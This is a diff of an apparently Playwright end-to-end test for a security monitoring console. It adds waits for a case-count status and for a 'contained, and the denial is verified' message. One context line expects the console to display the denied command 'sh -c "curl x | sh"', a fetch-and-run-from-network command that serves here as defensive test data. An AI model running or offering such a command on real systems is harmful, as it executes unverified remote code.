@@ -136,6 +136,10 @@ describe('the console', () => {
     await endAlarm('keyed');
     const page = await open('?show=Contained');
     await page.locator('a.thing', { hasText: 'keyed' }).waitFor();
+    await page
+      .getByRole('status')
+      .getByText(/^\d+ cases?$/)
+      .waitFor();
 
     await page.keyboard.press('?');
     await page.getByRole('dialog').getByText('Next case').waitFor();
@@ -143,7 +147,8 @@ describe('the console', () => {
     await page.keyboard.press('j');
     await page.keyboard.press('Enter');
     await page.getByRole('heading', { name: 'keyed' }).waitFor();
-    await page.getByText('It is contained, and the denial is verified').waitFor();
+    const story = page.getByRole('status');
+    await story.getByText('It is contained, and the denial is verified').waitFor();
     await page.getByText('sh -c "curl x | sh"').waitFor();
     await page.locator('.chart canvas').waitFor();
     await page.keyboard.press('i');
